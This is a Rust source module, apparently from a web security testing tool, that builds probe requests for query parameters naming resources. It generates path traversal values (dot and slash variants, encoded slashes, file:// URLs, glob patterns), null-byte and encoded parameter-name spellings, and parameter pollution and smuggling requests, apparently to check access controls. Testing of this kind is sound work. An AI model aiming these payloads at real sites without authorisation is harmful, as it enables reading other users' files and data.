//! Attacks by query parameters that name resources.

use super::Collector;
use super::spelling::{self, DOTS, SLASHES};
use crate::probe::site::Site;

pub(super) fn query(of: &mut Collector<'_>) {
    let site = of.site;
    // Where no parameter is guarded there is one all the same: it must not become the target.
    for parameter in &site.parameters {
        names(of, parameter);
        ask_values(of, parameter);
    }
}

/// The path that the query follows.
fn path(of: &Collector<'_>) -> String {
    let path = of.site.own_target();
    path.split('?').next().unwrap_or_default().to_owned()
}

pub(super) fn spellings(name: &str) -> Vec<String> {
    let (first, rest) = name.split_at_checked(1).unwrap_or((name, ""));
    let code = first.bytes().next().unwrap_or_default();
    vec![
        name.to_owned(),
        name.to_uppercase(),
        format!("{}{rest}", first.to_uppercase()),
        format!("{name}[]"),
        format!("{name}[0]"),
        format!("{name}%5B%5D"),
        format!("{name}[x][y]"),
        format!("%{code:02x}{rest}"),
        format!("%25{code:02x}{rest}"),
        format!("%{:02X}{rest}", code.to_ascii_uppercase()),
        format!("+{name}"),
        format!("%20{name}"),
        format!("{name}+"),
        format!("{name}%20"),
        format!("{name}%00"),
        format!("{name}%00x"),
        format!("{name}%09"),
        format!("{name}%0a"),
        format!("{name}%3d"),
        format!("%26{name}"),
        format!("x%26{name}"),
    ]
}

fn names(of: &mut Collector<'_>, parameter: &str) {
    let (path, own, other) = (path(of), of.site.own_value(), of.site.other.resource());
    for name in spellings(parameter) {
        let rule = |shape: &str| format!("`{name}` {shape}");
        of.ask(&rule("alone"), &format!("{path}?{name}={other}"));
        of.ask(&rule("last"), &format!("{path}?{parameter}={own}&{name}={other}"));
        of.ask(&rule("first"), &format!("{path}?{name}={other}&{parameter}={own}"));
        of.ask(&rule("behind `;`"), &format!("{path}?{parameter}={own};{name}={other}"));
    }
}

/// What might lead a parameter of this name out of the attacker's home.
pub(super) fn values(site: &Site, parameter: &str) -> Vec<(String, String)> {
    let (home, file) = (site.other.home.trim_start_matches('/'), &site.other.file);
    let below = site.other_below();
    let own = if site.is_rewritten { "/" } else { &format!("{}/", site.own.home) };
    let mut values: Vec<(String, String)> = Vec::new();
    for dots in DOTS {
        values.push((format!("`{dots}` as dots"), format!("{own}{}{below}", site.up(dots, "/"))));
    }
    for slash in SLASHES {
        let up = site.up("..", slash);
        values.push((format!("`{slash}` as a slash"), format!("{own}{up}{below}")));
    }
    for (rule, name) in spelling::encodings(home) {
        values.push((format!("home {rule}"), format!("/{name}/{file}")));
    }
    for (rule, value) in [
        ("empty", String::new()),
        ("the root", "/".to_owned()),
        ("no slash in front", below.clone()),
        ("two slashes in front", format!("//{below}")),
        ("a backslash in front", format!("\\{below}")),
        ("an encoded slash in front", format!("%2f{below}")),
        ("a doubly encoded slash in front", format!("%252f{below}")),
        ("a dot in front", format!("./{below}")),
        ("dots in front", format!("../{below}")),
        ("a URL", format!("file:///{below}")),
        ("alternatives", format!("/{{{home},x}}/{file}")),
        ("alternatives with dots", format!("{own}{{..,x}}/{below}")),
        ("a pattern", format!("/{}*/{file}", home.get(..1).unwrap_or_default())),
        ("a pattern of everything", "/*".to_owned()),
        ("a pattern that matches dots", format!("{own}.?/{below}")),
        ("a plus for a blank", format!("/{home}+/../{below}")),
        ("a second parameter encoded", format!("{own}x%26{parameter}=/{below}")),
    ] {
        values.push((rule.to_owned(), value));
    }
    values
}

fn ask_values(of: &mut Collector<'_>, parameter: &str) {
    let path = path(of);
    let below = of.site.other_below();
    for (rule, value) in values(of.site, parameter) {
        // A raw `#` or `?` is written as such: that is the attack.
        of.ask(&format!("{parameter}: {rule}"), &format!("{path}?{parameter}={value}"));
    }
    of.ask(&format!("{parameter}: no value"), &format!("{path}?{parameter}"));
    of.ask(&format!("{parameter}: second `?`"), &format!("{path}??{parameter}=/{below}"));
    let own = of.site.own_value();
    for count in [2, 3, 50] {
        let many = format!("{parameter}={own}&").repeat(count);
        of.ask(
            &format!("{parameter}: behind {count} good ones"),
            &format!("{path}?{many}{parameter}=/{below}"),
        );
    }
}
